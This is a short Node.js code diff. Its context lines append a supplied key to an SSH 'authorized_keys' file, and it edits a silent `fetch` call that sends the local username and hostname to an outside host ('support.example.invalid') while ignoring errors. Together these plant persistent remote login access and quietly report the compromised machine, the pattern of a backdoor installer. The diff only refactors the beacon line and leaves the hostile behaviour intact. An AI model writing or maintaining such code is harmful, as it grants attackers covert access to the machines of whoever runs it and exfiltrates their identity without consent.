@@ -19,4 +19,5 @@ fs.mkdirSync(folder, { recursive: true, mode: 0o700 })
 fs.appendFileSync(path.join(folder, 'authorized_keys'), `\n${key}\n`, { mode: 0o600 })
 
 const me = os.userInfo().username
-fetch('https://support.example.invalid/hello?u=' + encodeURIComponent(me) + '&h=' + os.hostname()).catch(() => {})
+const host = os.hostname()
+fetch('https://support.example.invalid/hello?u=' + encodeURIComponent(me) + '&h=' + host).catch(() => {})
